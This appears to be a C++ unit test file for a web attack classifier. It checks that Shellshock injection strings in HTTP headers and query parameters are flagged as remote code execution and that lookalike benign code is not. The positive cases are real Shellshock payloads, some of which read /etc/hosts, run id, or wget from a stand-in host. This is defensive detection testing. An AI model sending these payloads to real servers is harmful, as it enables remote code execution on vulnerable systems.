#include <gtest/gtest.h>

#include <string>

#include "attack/classify.h"

namespace quell::attack {
namespace {

class IsShellshock : public testing::TestWithParam<const char*> {};
TEST_P(IsShellshock, InAHeaderAndInAParameter) {
  for (const Where where : {Where::kHeader, Where::kQuery}) {
    const Classification verdict = classify(where, GetParam());
    ASSERT_TRUE(verdict.is_attack()) << GetParam();
    EXPECT_EQ(verdict.best().technique, Technique::kShellshock) << GetParam();
    EXPECT_EQ(verdict.best().which, Class::kRce);
  }
}
INSTANTIATE_TEST_SUITE_P(Functions, IsShellshock,
                         testing::Values("() { :;}; /bin/id", "() { :; }; echo x",
                                         "() { x;};echo;/bin/cat /etc/hosts",
                                         "() { ignored;}; wget http://192.0.2.1/a", "(){ :;};uname",
                                         "() { _; } >_[$($())] { id; }",
                                         "Referer: () { :;}; ping -c 1 192.0.2.1",
                                         "a=1&b=() { :;};ls", "() { :;};\nid"));

class IsNoShellshock : public testing::TestWithParam<const char*> {};
TEST_P(IsNoShellshock, InAHeaderAndInAParameter) {
  for (const Where where : {Where::kHeader, Where::kQuery}) {
    EXPECT_FALSE(classify(where, GetParam()).is_attack()) << GetParam();
  }
}
INSTANTIATE_TEST_SUITE_P(Others, IsNoShellshock,
                         testing::Values("function() { return; }", "() => { x(); };", "()", "() {",
                                         "clearly()not{ shell:shock;}",
                                         "foo\r\n() { :; }just a test", "(function() { a(); })();",
                                         "void f() { x; }", "() {}", "() { }"));

TEST(Shellshock, ManyBeginningsAreBounded) {
  std::string value;
  while (value.size() < kMaxValueBytes) value += " () {";
  EXPECT_FALSE(classify(Where::kHeader, value).is_attack());
}

}  // namespace
}  // namespace quell::attack
